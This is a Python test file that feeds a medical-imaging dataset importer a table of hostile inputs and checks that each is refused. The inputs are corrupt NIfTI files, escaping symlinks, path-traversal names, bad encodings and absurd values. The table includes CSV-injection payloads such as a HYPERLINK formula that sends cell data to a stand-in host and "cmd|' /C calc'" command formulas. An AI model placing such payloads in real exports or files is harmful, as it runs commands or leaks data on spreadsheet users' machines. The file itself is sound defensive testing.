"""Hostile input to the importer: a table of distinct bad inputs, each applied to a small valid dataset.

Each must be refused with the file (or manifest line) and the problem named, and leave the database, the
media store and the temporary folder exactly as they were. The basic bad inputs are in ``test_importer``;
these are the corrupt, absurd, malicious and mis-encoded ones.
"""

import gzip
import hashlib
import os
import re
import shutil
import tempfile
from pathlib import Path

import nibabel as nib
import numpy as np
import pytest
from django.apps import apps

from inference.manifest import COLUMNS, MAX_CHARACTERS, MAX_MANIFEST_BYTES, ManifestError
from inference.nifti import write_volume
from readerstudy.cases.importer import import_dataset
from readerstudy.cases.models import Case
from tests.conftest import DatasetBuilder, stored_files

pytestmark = pytest.mark.django_db

HEADER_BYTES = 348  # a NIfTI-1 header; the files written here have no extension, voxels start at byte 352


# ---- ways to break a file ---------------------------------------------------------------------------------


def _cut(sequence, keep):
    """Truncate a sequence's .nii.gz to ``keep(length)`` bytes."""

    def mutate(d):
        raw = d.path("C1", sequence).read_bytes()
        d.path("C1", sequence).write_bytes(raw[: keep(len(raw))])

    return mutate


def _flip(sequence, where, mask=0xFF):
    """XOR one byte of a sequence's compressed file; ``where(length)`` picks it."""

    def mutate(d):
        raw = bytearray(d.path("C1", sequence).read_bytes())
        raw[where(len(raw))] ^= mask
        d.path("C1", sequence).write_bytes(bytes(raw))

    return mutate


def _append(sequence, extra):
    def mutate(d):
        with d.path("C1", sequence).open("ab") as handle:
            handle.write(extra)

    return mutate


def _replace_file(sequence, content, lesion=None):
    def mutate(d):
        d.path("C1", sequence, lesion).write_bytes(content(d.path("C1", sequence, lesion)))

    return mutate


def _header(sequence, lesion=None, voxels=None, **fields):
    """Rewrite header fields of a .nii.gz (voxel bytes kept, or replaced by ``voxels``)."""

    def mutate(d):
        path = d.path("C1", sequence, lesion)
        raw = gzip.decompress(path.read_bytes())
        header = nib.Nifti1Header(raw[:HEADER_BYTES], check=False)
        for name, value in fields.items():
            header[name] = value
        body = raw[HEADER_BYTES:] if voxels is None else raw[HEADER_BYTES:352] + voxels
        path.write_bytes(gzip.compress(header.binaryblock + body, mtime=0))

    return mutate


def _typed(sequence, code, bitpix, lesion=None):
    """Declare another NIfTI datatype, with voxel bytes of the right length for it (only the type is wrong)."""
    shape = DatasetBuilder.SHAPES.get(sequence, DatasetBuilder.DYNAMIC_SHAPE)
    return _header(
        sequence,
        lesion,
        voxels=bytes(range(256)) * (int(np.prod(shape)) * bitpix // 8 // 256),
        datatype=code,
        bitpix=bitpix,
    )


def _voxels(sequence, data, lesion=None, affine=None):
    """Rewrite a file with new voxels (and affine), through the clean writer."""

    def mutate(d):
        path = d.path("C1", sequence, lesion)
        write_volume(path, data, d.grid(sequence)[1] if affine is None else affine)

    return mutate


def _one_voxel(value, shape, dtype=np.float32, mask=False):
    """A float image (or mask, with a small lesion) whose voxel (1, 2, 3) is ``value``."""
    data = np.zeros(shape, dtype) if mask else np.full(shape, 400, dtype)
    if mask:
        data[6:9, 6:9, 3:5] = 1
    data[1, 2, 3] = value
    return data


def _shifted_grid(sequence, change):
    """A mask on a grid derived from its sequence's affine by ``change(affine)``."""

    def mutate(d):
        shape, affine = d.grid(sequence)
        data = np.zeros(shape, np.uint8)
        data[4:8, 4:8, 2:5] = 1
        write_volume(d.path("C1", sequence, "L1"), data, change(affine.copy()))

    return mutate


def _scaled(affine, column, factor):
    affine[:3, column] *= factor
    return affine


def _translated(affine, mm):
    affine[0, 3] += mm
    return affine


def _swapped_columns(affine):
    affine[:3, [0, 1]] = affine[:3, [1, 0]]
    return affine


def _extra_file(name):
    """A copy of T2WI under another name in the case folder (``name`` may hold any byte but / and NUL)."""

    def mutate(d):
        target = os.path.join(os.fsencode(d.root / "C1"), name if isinstance(name, bytes) else name.encode())
        Path(os.fsdecode(target)).write_bytes(d.path("C1", "T2WI").read_bytes())

    return mutate


def _folder_named_like(sequence, lesion=None):
    def mutate(d):
        d.path("C1", sequence, lesion).unlink()
        d.path("C1", sequence, lesion).mkdir()

    return mutate


def _fifo(sequence):
    def mutate(d):
        d.path("C1", sequence).unlink()
        os.mkfifo(d.path("C1", sequence))

    return mutate


def _outside(d) -> Path:
    """A valid copy of the case just outside the dataset folder."""
    outside = d.root.parent / "outside"
    if not outside.exists():
        DatasetBuilder(outside).add_case("C1")
    return outside / "C1"


def _link(sequence, target, lesion=None):
    """Replace a file by a symbolic link to ``target(d)``."""

    def mutate(d):
        d.path("C1", sequence, lesion).unlink()
        d.path("C1", sequence, lesion).symlink_to(target(d))

    return mutate


def _link_folder(relative):
    """Replace a folder of the case (``""`` for the case itself) by a link to its copy outside."""

    def mutate(d):
        shutil.rmtree(d.root / "C1" / relative)
        (d.root / "C1" / relative).symlink_to(_outside(d) / relative, target_is_directory=True)

    return mutate


def _link_loop(d):
    d.path("C1", "DP").unlink()
    d.path("C1", "DP").symlink_to(d.root / "C1" / "loop")
    (d.root / "C1" / "loop").symlink_to(d.path("C1", "DP"))


# ---- ways to break the manifest ---------------------------------------------------------------------------


def _row(**fields):
    """Set fields of the manifest row."""

    def mutate(d):
        d.rows[0].update(fields)

    return mutate


def _manifest_bytes(make):
    """Write the manifest as ``make(csv_text)`` bytes (after the row edits)."""

    def mutate(d):
        path = d.write_manifest()
        path.write_bytes(make(path.read_text()))

    return mutate


def _with_lines(edit):
    """Rewrite the manifest's lines with ``edit(lines)``."""

    return _manifest_bytes(lambda text: "".join(edit(text.splitlines(keepends=True))).encode())


def _huge_manifest(d):
    path = d.write_manifest()
    os.truncate(path, MAX_MANIFEST_BYTES + 1)  # sparse: no disk written


def _long(n):
    return "X" * n


CSV_FIELD_LIMIT = 131072  # Python's csv.field_size_limit() default


# ---- the table: name → (mutation, expected) --------------------------------------------------------------
# expected: ("case", fragments of the rejected case's problems) or ("manifest", fragments of ManifestError)

T2, DWI = "C1/T2WI.nii.gz: ", "C1/DWI.nii.gz: "
TRUNCATED_GZIP = "truncated or corrupt voxel data (gzip stream: Compressed file ended before the end-of-stream"
NOT_ACCEPTED = "is not accepted; expected one of uint8, int8, int16, uint16, int32, uint32, float32, float64"
GRID = "C1/masks/L1/{}.nii.gz: mask grid {} does not match its sequence's grid"
SPREADSHEET = "a spreadsheet opening the exports would run it as a formula (CSV injection)"
NOT_UTF8 = "manifest.csv: not UTF-8 text (byte 0x{:02x} at offset {}; UTF-16, Latin-1 or another encoding?)"

HOSTILE = {
    # truncated gzip, at several cut points
    "gzip cut after 1 byte": (_cut("T2WI", lambda n: 1), ("case", [T2, "unreadable NIfTI file"])),
    "gzip cut inside its header": (_cut("T2WI", lambda n: 9), ("case", [T2, "unreadable NIfTI file"])),
    "gzip cut inside the NIfTI header": (_cut("T2WI", lambda n: 60), ("case", [T2, "unreadable NIfTI file"])),
    "gzip cut in the voxels": (_cut("DWI", lambda n: n * 2 // 3), ("case", [DWI, "truncated or corrupt"])),
    "gzip cut before the CRC": (_cut("T2WI", lambda n: n - 8), ("case", [T2, TRUNCATED_GZIP])),
    "gzip cut inside the CRC": (_cut("T2WI", lambda n: n - 6), ("case", [T2, TRUNCATED_GZIP])),
    "gzip cut before its length": (_cut("T2WI", lambda n: n - 4), ("case", [T2, TRUNCATED_GZIP])),
    "gzip missing its last byte": (_cut("T2WI", lambda n: n - 1), ("case", [T2, TRUNCATED_GZIP])),
    # corrupted gzip
    "gzip magic byte flipped": (_flip("T2WI", lambda n: 0), ("case", [T2, "unreadable NIfTI file"])),
    "gzip method not deflate": (_flip("T2WI", lambda n: 2, 0x01), ("case", [T2, "unreadable NIfTI file"])),
    "deflate byte flipped early": (_flip("T2WI", lambda n: 12), ("case", [T2, "unreadable NIfTI file"])),
    "deflate byte flipped mid-stream": (_flip("DWI", lambda n: n // 2), ("case", [DWI, "corrupt"])),
    "deflate byte flipped near the end": (_flip("DWI", lambda n: n - 12), ("case", [DWI, "corrupt"])),
    "CRC flipped": (_flip("T2WI", lambda n: n - 8), ("case", [T2, "(gzip stream: CRC check failed"])),
    "CRC last byte flipped": (_flip("T2WI", lambda n: n - 5, 0x01), ("case", [T2, "CRC check failed"])),
    "gzip length field wrong": (_flip("T2WI", lambda n: n - 4, 0x01), ("case", [T2, "Incorrect length of data"])),
    "garbage after the gzip stream": (_append("T2WI", b"#!/bin/sh\n"), ("case", [T2, "Not a gzipped file"])),
    "a second gzip member with more data": (
        _append("T2WI", gzip.compress(b"\x00" * 64, mtime=0)),
        ("case", [T2, "more bytes than the header's shape and voxel type need (4,448): wrong dimensions or type?"]),
    ),
    # not gzip at all, empty, not a file
    "plain NIfTI named .nii.gz": (
        _replace_file("T2WI", lambda p: gzip.decompress(p.read_bytes())),
        ("case", [T2, "unreadable NIfTI file", "not a gzip file"]),
    ),
    "text named .nii.gz": (
        _replace_file("T2WI", lambda p: b"patient,age\nP1,61\n"),
        ("case", [T2, "unreadable NIfTI file"]),
    ),
    "PNG named .nii.gz": (
        _replace_file("T2WI", lambda p: b"\x89PNG\r\n\x1a\n" + bytes(500)),
        ("case", [T2, "unreadable NIfTI file"]),
    ),
    "empty file": (_replace_file("DWI", lambda p: b""), ("case", [DWI, "unreadable NIfTI file (Empty file"])),
    "empty mask file": (
        _replace_file("ADC", lambda p: b"", lesion="L1"),
        ("case", ["C1/masks/L1/ADC.nii.gz: unreadable NIfTI file (Empty file"]),
    ),
    "gzip of nothing": (_replace_file("T2WI", lambda p: gzip.compress(b"")), ("case", [T2, "unreadable NIfTI"])),
    "folder named like a sequence": (_folder_named_like("T2WI"), ("case", [T2 + "a folder, not a NIfTI file"])),
    "folder named like a mask": (
        _folder_named_like("PVP", "L1"),
        ("case", ["C1/masks/L1/PVP.nii.gz: a folder, not a NIfTI file"]),
    ),
    "named pipe as a sequence": (_fifo("ADC"), ("case", ["C1/ADC.nii.gz: not a regular file"])),
    # dimensions
    "header claims 10^9 voxels": (
        _header("T2WI", dim=[3, 1000, 1000, 1000, 1, 1, 1, 1]),
        ("case", [T2 + "header claims 1,000,000,000 voxels (shape (1000, 1000, 1000)), more than 134,217,728"]),
    ),
    "header claims 32767³ voxels": (
        _header("T2WI", dim=[3, 2**15 - 1, 2**15 - 1, 2**15 - 1, 1, 1, 1, 1]),
        ("case", [T2 + "header claims 35,181,150,961,663 voxels"]),
    ),
    "header claims a 7-D image": (
        _header("T2WI", dim=[7, 16, 16, 8, 50, 50, 50, 50]),
        ("case", [T2 + "header claims 12,800,000,000 voxels"]),
    ),
    "negative dimension": (
        _header("T2WI", dim=[3, -16, 16, 8, 1, 1, 1, 1]),
        ("case", [T2 + "zero or negative dimension in shape (-16, 16, 8)"]),
    ),
    "zero dimension": (
        _header("DWI", dim=[3, 12, 0, 8, 1, 1, 1, 1]),
        ("case", [DWI + "zero or negative dimension in shape (12, 0, 8)"]),
    ),
    "no dimensions": (_header("T2WI", dim=[0, 16, 16, 8, 1, 1, 1, 1]), ("case", [T2 + "zero or negative dim"])),
    "header shape smaller than the data": (
        _header("T2WI", dim=[3, 16, 16, 4, 1, 1, 1, 1]),
        ("case", [T2 + "more bytes than the header's shape and voxel type need (2,400)"]),
    ),
    "header shape larger than the data": (
        _header("T2WI", dim=[3, 16, 16, 9, 1, 1, 1, 1]),
        ("case", [T2 + "truncated voxel data: 4,448 bytes where its header needs 4,960"]),
    ),
    "voxel offset past the end": (
        _header("T2WI", vox_offset=10_000),
        ("case", [T2 + "truncated voxel data: 4,448 bytes where its header needs 14,096"]),
    ),
    "voxel offset beyond any header": (
        _header("T2WI", vox_offset=2**40),
        ("case", [T2 + "voxel data said to start at byte 1,099,511,627,776, past 67,108,864"]),
    ),
    "negative voxel offset": (_header("T2WI", vox_offset=-352), ("case", [T2, "unreadable", "vox offset -352"])),
    # voxel types, as NIfTI datatype codes
    "complex64 voxels": (
        _typed("T2WI", 32, 64),
        ("case", [T2 + "voxel type complex64 (NIfTI datatype code 32) " + NOT_ACCEPTED]),
    ),
    "complex128 voxels": (
        _typed("T2WI", 1792, 128),
        ("case", [T2 + "voxel type complex128 (NIfTI datatype code 1792)"]),
    ),
    "RGB voxels": (_typed("T2WI", 128, 24), ("case", [T2 + "voxel type void24 (NIfTI datatype"])),
    "RGBA voxels": (_typed("T2WI", 2304, 32), ("case", [T2 + "voxel type void32"])),
    "int64 voxels": (_typed("T2WI", 1024, 64), ("case", [T2 + "voxel type int64 (NIfTI"])),
    "uint64 mask": (
        _typed("T2WI", 1280, 64, lesion="L1"),
        ("case", ["C1/masks/L1/T2WI.nii.gz: voxel type uint64 (NIfTI datatype code 1280) is not accepted"]),
    ),
    "1-bit (bool) voxels": (
        _typed("T2WI", 1, 1),
        ("case", [T2 + "unreadable NIfTI file (data code 1 not supported)"]),
    ),
    "float128 voxels": (_typed("T2WI", 1536, 128), ("case", [T2, "data code 1536 not supported"])),
    "complex256 voxels": (_typed("T2WI", 2048, 256), ("case", [T2, "data code 2048 not supported"])),
    "unknown datatype code": (_typed("T2WI", 999, 16), ("case", [T2, "data code 999 not recog"])),
    # NaN and infinity
    "image all NaN": (
        _voxels("T2WI", np.full((16, 16, 8), np.nan, np.float32)),
        ("case", [T2 + "2048 NaN or infinite voxel(s)"]),
    ),
    "float64 image with -inf": (
        _voxels("DWI", _one_voxel(-np.inf, (12, 12, 8), np.float64)),
        ("case", [DWI + "1 NaN or infinite voxel(s)"]),
    ),
    "NaN in a mask": (
        _voxels("T2WI", _one_voxel(np.nan, (16, 16, 8), mask=True), lesion="L1"),
        ("case", ["C1/masks/L1/T2WI.nii.gz: 1 NaN or infinite voxel(s)"]),
    ),
    "inf in a mask": (
        _voxels("ADC", _one_voxel(np.inf, (12, 12, 8), mask=True), lesion="L1"),
        ("case", ["C1/masks/L1/ADC.nii.gz: 1 NaN or infinite voxel(s)"]),
    ),
    "infinite scale intercept": (
        _header("T2WI", scl_slope=2.0, scl_inter=np.inf),
        ("case", [T2 + "unreadable NIfTI file (Valid slope but invalid intercept inf)"]),
    ),
    # spacing and affine
    "NaN voxel spacing": (
        _header("T2WI", pixdim=[1, np.nan, 2, 5, 1, 1, 1, 1]),
        ("case", [T2 + "non-finite voxel spacing (nan, 2.0, 5.0) mm"]),
    ),
    "infinite voxel spacing": (
        _header("DWI", pixdim=[1, 2, np.inf, 5, 1, 1, 1, 1]),
        ("case", [DWI + "non-finite voxel spacing (2.0, inf, 5.0) mm"]),
    ),
    "zero spacing in the sform": (
        _header("T2WI", srow_y=[0, 0, 0, -16]),
        ("case", [T2 + "zero or negative voxel spacing"]),
    ),
    "negative pixdim beside a good sform": (
        _header("T2WI", pixdim=[1, 2, 2, -5, 1, 1, 1, 1]),
        ("case", [T2 + "zero or negative voxel spacing (2.0, 2.0, -5.0) mm"]),
    ),
    "NaN in the sform": (
        _header("T2WI", srow_z=[0, 0, np.nan, -20]),
        ("case", [T2 + "non-finite affine (NaN or infinite entries in the sform or qform)"]),
    ),
    "NaN in the qform": (
        _header("T2WI", sform_code=0, quatern_b=np.nan),
        ("case", [T2 + "non-finite affine"]),
    ),
    "singular sform (two equal axes)": (
        _header("T2WI", srow_x=[2, 2, 0, -16], srow_y=[0, 0, 0, -16]),
        ("case", [T2 + "singular affine: its voxel axes are not independent directions"]),
    ),
    "singular sform (an axis in the plane of the others)": (
        _header("T2WI", srow_x=[2, 0, 2, -16], srow_y=[0, 2, 2, -16], srow_z=[0, 0, 0, -20]),
        ("case", [T2 + "singular affine"]),
    ),
    # masks on another grid than their sequence
    "mask with twice the spacing": (
        _shifted_grid("T2WI", lambda a: _scaled(a, 0, 2)),
        ("case", [GRID.format("T2WI", "(16, 16, 8)"), "affine differ by more than 0.01 mm"]),
    ),
    "mask flipped left-right": (
        _shifted_grid("DWI", lambda a: _scaled(a, 0, -1)),
        ("case", [GRID.format("DWI", "(12, 12, 8)")]),
    ),
    "mask with swapped axes": (
        _shifted_grid("PVP", _swapped_columns),
        ("case", [GRID.format("PVP", "(16, 16, 12)")]),
    ),
    "mask transposed": (
        _voxels("LAP", np.ones((12, 16, 16), np.uint8), lesion="L1"),
        ("case", [GRID.format("LAP", "(12, 16, 16)") + " (16, 16, 12)"]),
    ),
    "mask shifted by 0.02 mm": (
        _shifted_grid("DP", lambda a: _translated(a, 0.02)),
        ("case", [GRID.format("DP", "(16, 16, 12)")]),
    ),
    # file names
    "file name with a newline": (_extra_file("T2WI\n.nii.gz"), ("case", ["C1/T2WI\\n.nii.gz: extra file"])),
    "file name with a terminal escape": (
        _extra_file("\x1b[2J\x1b[31mT2WI.nii.gz"),
        ("case", ["C1/\\x1b[2J\\x1b[31mT2WI.nii.gz: extra file"]),
    ),
    "file name with a carriage return": (_extra_file("DWI\r.nii.gz"), ("case", ["C1/DWI\\r.nii.gz: extra file"])),
    "file name not UTF-8": (_extra_file(b"T2WI\xff\xfe.nii.gz"), ("case", ["C1/T2WI\\udcff\\udcfe.nii.gz: extra"])),
    "file name 250 characters long": (
        _extra_file("T" * 243 + ".nii.gz"),
        ("case", ["C1/" + "T" * 243 + ".nii.gz: extra file"]),
    ),
    "a sequence twice, once as .nii": (
        _extra_file("T2WI.nii"),
        ("case", ["C1/: more than one file for T2WI: T2WI.nii, T2WI.nii.gz"]),
    ),
    "link to a NIfTI file outside the dataset": (
        _link("T2WI", lambda d: _outside(d) / "T2WI.nii.gz"),
        ("case", [T2 + "a symbolic link to a file outside the dataset folder"]),
    ),
    "link to a mask outside the dataset": (
        _link("DP", lambda d: _outside(d) / "masks" / "L1" / "DP.nii.gz", lesion="L1"),
        ("case", ["C1/masks/L1/DP.nii.gz: a symbolic link to a file outside the dataset folder"]),
    ),
    "link to a device": (_link("ADC", lambda d: "/dev/zero"), ("case", ["C1/ADC.nii.gz: a symbolic link to"])),
    "link to a parent folder's file by ../": (
        _link("DWI", lambda d: Path("..") / ".." / "outside" / "C1" / "DWI.nii.gz"),
        ("case", [DWI + "a symbolic link to a file outside"]),
    ),
    "dangling link": (_link("LAP", lambda d: d.root / "nowhere.nii.gz"), ("case", ["C1/LAP.nii.gz: not a regular"])),
    "link loop": (_link_loop, ("case", ["C1/DP.nii.gz: unresolvable path (Symlink loop"])),
    "case folder linked outside": (
        _link_folder(""),
        ("case", [T2 + "a symbolic link to a file outside", "C1/masks/L1/DP.nii.gz: a symbolic link"]),
    ),
    "masks folder linked outside": (
        _link_folder("masks"),
        ("case", ["C1/masks/L1/T2WI.nii.gz: a symbolic link to a file outside the dataset folder"]),
    ),
    "lesion folder linked outside": (
        _link_folder("masks/L1"),
        ("case", ["C1/masks/L1/PVP.nii.gz: a symbolic link to a file outside the dataset folder"]),
    ),
    # names in the manifest
    "case ../C1": (_row(case="../C1"), ("manifest", ["line 2: case must be a plain folder name (no path)"])),
    "case absolute path": (_row(case="/etc"), ("manifest", ["line 2: case must be a plain folder name", "'/etc'"])),
    "case ..": (_row(case=".."), ("manifest", ["manifest.csv line 2: case must be a plain folder name"])),
    "case with a backslash": (_row(case="..\\C1"), ("manifest", ["line 2: case must be a plain folder name"])),
    "case with a control character": (
        _row(case="C\x071"),
        ("manifest", ["manifest.csv line 2: case contains a control or unprintable character: 'C\\x071'"]),
    ),
    "case 201 characters long": (
        _row(case=_long(201)),
        ("manifest", [f"manifest.csv line 2: case is 201 characters long, at most {MAX_CHARACTERS['case']}"]),
    ),
    "lesion ../../L1": (_row(lesion="../../L1"), ("case", ["line 2: lesion must be a plain folder name (no path)"])),
    "lesion absolute path": (_row(lesion="/tmp/L1"), ("case", ["line 2: lesion must be a plain folder name"])),
    "lesion with a tab inside": (_row(lesion="L\t1"), ("case", ["line 2: lesion contains a control", "'L\\t1'"])),
    "lesion 101 characters long": (_row(lesion=_long(101)), ("case", ["line 2: lesion is 101 characters long"])),
    "NUL in a cell": (
        _row(scanner_model="Pri\x00sma"),
        ("manifest", ["manifest.csv line 2: NUL character (UTF-16 or a binary file?)"]),
    ),
    "zero-width character in a name": (
        _row(lesion="L\u200b1"),
        ("case", ["line 2: lesion contains a control or unprintable character: 'L\\u200b1'"]),
    ),
    # formulas (CSV injection into the exports)
    "formula in scanner_model": (
        _row(scanner_model='=HYPERLINK("http://x.example/?"&A1,"Prisma")'),
        ("case", ["manifest.csv line 2: scanner_model '=HYPERLINK", "starts with '='", SPREADSHEET]),
    ),
    "formula in scanner_vendor": (_row(scanner_vendor="@SUM(1+1)*cmd|' /C calc'!A0"), ("case", ["'@'", SPREADSHEET])),
    "plus formula in lesion": (_row(lesion="+1+1"), ("case", ["line 2: lesion '+1+1' starts with '+'", SPREADSHEET])),
    "minus formula in lesion": (_row(lesion="-2+3+cmd|' /C calc'!A0"), ("case", ["starts with '-'", SPREADSHEET])),
    "formula behind spaces": (_row(scanner_model="   =1+1"), ("case", ["scanner_model '=1+1' starts with '='"])),
    "formula as the case": (_row(case="=C1"), ("manifest", ["line 2: case '=C1' starts with '='", SPREADSHEET])),
    "tab before a formula": (_row(scanner_model="\t=1+1"), ("case", ["scanner_model '=1+1' starts with '='"])),
    # encodings
    "manifest in UTF-16 with BOM": (
        _manifest_bytes(lambda t: t.encode("utf-16")),
        ("manifest", [NOT_UTF8.format(0xFF, 0), "save it as CSV UTF-8"]),
    ),
    "manifest in UTF-16 big-endian": (
        _manifest_bytes(lambda t: "\ufeff".encode("utf-16-be") + t.encode("utf-16-be")),
        ("manifest", [NOT_UTF8.format(0xFE, 0)]),
    ),
    "manifest in UTF-16 without BOM": (
        _manifest_bytes(lambda t: t.encode("utf-16-le")),
        ("manifest", ["manifest.csv line 1: NUL character (UTF-16 or a binary file?)"]),
    ),
    "manifest in UTF-32": (_manifest_bytes(lambda t: t.encode("utf-32")), ("manifest", [NOT_UTF8.format(0xFF, 0)])),
    "Latin-1 byte in a cell": (
        _manifest_bytes(lambda t: t.replace("Siemens", "Siemens Müller").encode("latin-1")),
        ("manifest", ["manifest.csv: not UTF-8 text (byte 0xfc at offset"]),
    ),
    "Windows-1252 quote in a cell": (
        _manifest_bytes(lambda t: t.replace("Prisma", "\u201cPrisma\u201d").encode("cp1252")),
        ("manifest", ["manifest.csv: not UTF-8 text (byte 0x93 at offset"]),
    ),
    "overlong UTF-8": (
        _manifest_bytes(lambda t: t.replace("Prisma", "Pri\x00sma").encode().replace(b"\x00", b"\xc0\xaf")),
        ("manifest", ["not UTF-8 text (byte 0xc0 at offset"]),
    ),
    "encoded surrogate": (
        _manifest_bytes(lambda t: t.replace("Prisma", "Pri\x00sma").encode().replace(b"\x00", b"\xed\xa0\x80")),
        ("manifest", ["not UTF-8 text (byte 0xed at offset"]),
    ),
    "BOM inside a cell": (_row(patient="\ufeffP1"), ("case", ["line 2: patient contains a control or unprintable"])),
    # columns
    "column label missing": (
        lambda d: d.write_manifest(columns=[c for c in COLUMNS if c != "label"]),
        ("manifest", ["manifest.csv: missing column(s) label"]),
    ),
    "header misspelled": (
        _with_lines(lambda lines: [lines[0].replace("diameter_mm", "diameter"), *lines[1:]]),
        ("manifest", ["manifest.csv: missing column(s) diameter_mm"]),
    ),
    "no header": (_with_lines(lambda lines: lines[1:]), ("manifest", ["manifest.csv: missing column(s) patient"])),
    "column label twice": (
        _with_lines(lambda lines: [lines[0].rstrip() + ",label\r\n", lines[1].rstrip() + ",cyst\r\n"]),
        ("manifest", ["manifest.csv: column(s) label appear more than once in the header"]),
    ),
    "a row with an extra cell": (
        _with_lines(lambda lines: [lines[0], lines[1].rstrip() + ",surprise\r\n"]),
        ("case", ["manifest.csv line 2: 14 cells where the header has 13"]),
    ),
    "a row with a cell missing": (
        _with_lines(lambda lines: [lines[0], lines[1].rstrip().rsplit(",", 1)[0] + "\r\n"]),
        ("case", ["manifest.csv line 2: 12 cells where the header has 13"]),
    ),
    "header only": (_with_lines(lambda lines: lines[:1]), ("case", ["C1/: files without a manifest row"])),
    "empty manifest": (_manifest_bytes(lambda t: b""), ("manifest", ["manifest.csv: missing column(s) patient"])),
    # enormous cells and files
    "scanner_model of 10,000 characters": (
        _row(scanner_model=_long(10_000)),
        ("case", ["manifest.csv line 2: scanner_model is 10,000 characters long, at most 100"]),
    ),
    "scanner_vendor of 51 characters": (_row(scanner_vendor=_long(51)), ("case", ["scanner_vendor is 51 characters"])),
    "label of 5,000 characters": (_row(label=_long(5000)), ("case", ["line 2: label is 5,000 characters long"])),
    "a cell past the CSV field limit": (
        _row(patient=_long(CSV_FIELD_LIMIT + 1)),
        ("manifest", ["manifest.csv line 2: not valid CSV (field larger than field limit (131072))"]),
    ),
    "a header cell past the CSV field limit": (
        _with_lines(lambda lines: [_long(CSV_FIELD_LIMIT + 1) + "," + lines[0], *lines[1:]]),
        ("manifest", ["manifest.csv line 1: not valid CSV (field larger than field limit"]),
    ),
    "manifest over 64 MiB": (
        _huge_manifest,
        ("manifest", ["manifest.csv: 67,108,865 bytes, more than the 67,108,864"]),
    ),
    "unclosed quote to the end": (
        _with_lines(lambda lines: [lines[0], lines[1].replace("Prisma", '"Prisma')]),
        ("manifest", ["manifest.csv line 2: 7 cells where the header has 13"]),
    ),
    # labels
    "label as an index": (_row(label="4"), ("case", ["line 2: unknown label '4'; expected one of cyst, FNH"])),
    "label out of range": (_row(label="8"), ("case", ["unknown label '8'"])),
    "label plural": (_row(label="metastases"), ("case", ["unknown label 'metastases'"])),
    "label with a Cyrillic look-alike": (_row(label="HC\u0421"), ("case", ["unknown label 'HCС'"])),
    "two labels in one cell": (_row(label="HCC;ICC"), ("case", ["unknown label 'HCC;ICC'"])),
    "label empty": (_row(label=" "), ("case", ["manifest.csv line 2: label is empty"])),
    # diameters and other numbers
    "diameter NaN": (_row(diameter_mm="nan"), ("case", ["line 2: diameter_mm must be a finite number, got 'nan'"])),
    "diameter infinite": (_row(diameter_mm="inf"), ("case", ["diameter_mm must be a finite number, got 'inf'"])),
    "diameter negative": (_row(diameter_mm="-5"), ("case", ["diameter_mm must be positive, got '-5'"])),
    "diameter absurd": (_row(diameter_mm="1e308"), ("case", ["diameter_mm must be at most 300, got '1e308'"])),
    "diameter overflowing": (_row(diameter_mm="1e400"), ("case", ["diameter_mm must be a finite number"])),
    "diameter of a metre": (_row(diameter_mm="1000"), ("case", ["diameter_mm must be at most 300, got '1000'"])),
    "diameter with a decimal comma": (_row(diameter_mm="21,5"), ("case", ["diameter_mm must be a number, got '21,5'"])),
    "diameter in hex": (_row(diameter_mm="0x15"), ("case", ["diameter_mm must be a number, got '0x15'"])),
    "age negative": (_row(age="-1"), ("case", ["line 2: age must be positive, got '-1'"])),
    "age absurd": (_row(age="200"), ("case", ["line 2: age must be at most 120, got '200'"])),
    "age of 5,000 digits": (_row(age="9" * 5000), ("case", ["age is 5,000 characters long, at most 200"])),
    "age fractional": (_row(age="61.5"), ("case", ["age must be a number, got '61.5'"])),
    "field strength NaN": (_row(field_strength_t="NaN"), ("case", ["field_strength_t must be a finite number"])),
    "field strength sNaN": (_row(field_strength_t="sNaN"), ("case", ["field_strength_t must be a finite number"])),
    "field strength infinite": (_row(field_strength_t="Infinity"), ("case", ["field_strength_t must be a finite"])),
    "field strength absurd": (_row(field_strength_t="1e999"), ("case", ["field_strength_t must be at most 12"])),
    "field strength too high for the column": (
        _row(field_strength_t="100"),
        ("case", ["field_strength_t must be at most 12, got '100'"]),
    ),
    "field strength negative": (_row(field_strength_t="-3"), ("case", ["field_strength_t must be positive"])),
    "sex unknown": (_row(sex="X"), ("case", ["line 2: sex must be one of F, M, got 'X'"])),
    # splits
    "split train": (_row(split="train"), ("case", ["line 2: split must be one of development, test, got 'train'"])),
    "split abbreviated": (_row(split="dev"), ("case", ["split must be one of development, test, got 'dev'"])),
    "split two values": (_row(split="test;development"), ("case", ["got 'test;development'"])),
    "split numeric": (_row(split="1"), ("case", ["split must be one of development, test, got '1'"])),
}

TOLERATED = {
    "UTF-8 byte-order mark": _manifest_bytes(lambda t: b"\xef\xbb\xbf" + t.encode()),
    "blank lines between and after rows": _with_lines(lambda lines: [lines[0], "\r\n", lines[1], "\r\n\r\n"]),
    "a row of empty cells": _with_lines(lambda lines: [*lines, "," * 12 + "\r\n"]),
    "Unix line endings": _manifest_bytes(lambda t: t.replace("\r\n", "\n").encode()),
    "an extra named column": _with_lines(lambda lines: [lines[0].rstrip() + ",notes\r\n", lines[1].rstrip() + ",\r\n"]),
    "spaces around values": _row(label=" hcc ", split=" TEST ", sex=" f ", scanner_model=" Prisma "),
    "a scanner name with a hyphen inside": _row(scanner_model="Magnetom-Prisma"),
}


# ---- the checks -------------------------------------------------------------------------------------------


@pytest.fixture
def scratch(tmp_path, monkeypatch) -> Path:
    """The process's temporary folder, private to the test so that anything left behind is seen."""
    folder = tmp_path / "scratch"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def everything(media: Path, scratch: Path) -> dict:
    """Row counts of every model of the cases app, the stored files and the temporary folder's contents."""
    counts = {model.__name__: model.objects.count() for model in apps.get_app_config("cases").get_models()}
    return {"rows": counts, "stored": stored_files(media), "scratch": sorted(scratch.rglob("*"))}


def hostile_dataset(name: str, root: Path) -> DatasetBuilder:
    """The valid one-case dataset with the bad input ``name`` applied (the manifest written after the rows)."""
    dataset = DatasetBuilder(root).add_case("C1")
    HOSTILE[name][0](dataset)
    if not (root / "manifest.csv").exists():
        dataset.write_manifest()
    return dataset


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_input_is_refused_by_name_and_writes_nothing(name, tmp_path, media, scratch):
    kind, fragments = HOSTILE[name][1]
    dataset = hostile_dataset(name, tmp_path / "dataset")
    before = everything(media, scratch)

    if kind == "manifest":
        with pytest.raises(ManifestError) as refused:
            import_dataset(dataset.root)
        problems = [str(refused.value)]
    else:
        report = import_dataset(dataset.root)
        assert not report.imported and list(report.rejected) == ["C1"], report.summary()
        problems = report.rejected["C1"]

    for fragment in fragments:
        assert fragment in "\n".join(problems)
